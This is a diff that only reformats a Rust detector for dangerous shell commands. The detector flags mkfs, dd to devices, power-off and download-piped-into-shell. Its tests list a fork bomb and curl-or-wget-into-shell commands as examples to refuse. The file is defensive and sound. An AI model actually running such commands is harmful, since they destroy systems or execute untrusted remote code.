@@ -86,8 +86,10 @@ fn words(stage: &str) -> Vec<String> {
     // Look through privilege and environment wrappers.
     while let Some(first) = words.first() {
         let name = program_name(first);
-        if matches!(name.as_str(), "sudo" | "doas" | "env" | "command" | "exec" | "nohup")
-            || first.contains('=')
+        if matches!(
+            name.as_str(),
+            "sudo" | "doas" | "env" | "command" | "exec" | "nohup"
+        ) || first.contains('=')
         {
             words.remove(0);
             // `sudo -u root rm`: drop options of the wrapper too.
@@ -126,16 +128,18 @@ pub fn recursive_delete_root(c: &Command) -> bool {
 
 /// Any `mkfs` variant.
 pub fn make_filesystem(c: &Command) -> bool {
-    c.simple
-        .iter()
-        .any(|w| w.first().is_some_and(|p| program_name(p).starts_with("mkfs")))
+    c.simple.iter().any(|w| {
+        w.first()
+            .is_some_and(|p| program_name(p).starts_with("mkfs"))
+    })
 }
 
 /// `dd` writing to a block device.
 pub fn dd_to_device(c: &Command) -> bool {
     c.simple.iter().any(|w| {
         w.first().map(|p| program_name(p)).as_deref() == Some("dd")
-            && w.iter().any(|a| a.starts_with("of=/dev/") && a != "of=/dev/null")
+            && w.iter()
+                .any(|a| a.starts_with("of=/dev/") && a != "of=/dev/null")
     })
 }
 
@@ -167,7 +171,9 @@ pub fn power_off(c: &Command) -> bool {
 /// A download piped straight into a shell: `curl ... | sh`, `wget -O- ... | bash`.
 pub fn download_into_shell(c: &Command) -> bool {
     const FETCHERS: &[&str] = &["curl", "wget", "fetch"];
-    const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl"];
+    const SHELLS: &[&str] = &[
+        "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl",
+    ];
     c.pipelines.iter().any(|stages| {
         stages
             .iter()
@@ -230,7 +236,10 @@ mod tests {
             ("bomb(){ bomb|bomb& }; bomb", "fork-bomb"),
             ("sudo shutdown -h now", "power-off"),
             ("systemctl reboot", "power-off"),
-            ("curl -fsSL https://x.example/install.sh | sh", "download-into-shell"),
+            (
+                "curl -fsSL https://x.example/install.sh | sh",
+                "download-into-shell",
+            ),
             ("wget -qO- http://x | sudo bash", "download-into-shell"),
         ] {
             assert_eq!(refused(cmd), Some(rule), "{cmd}");
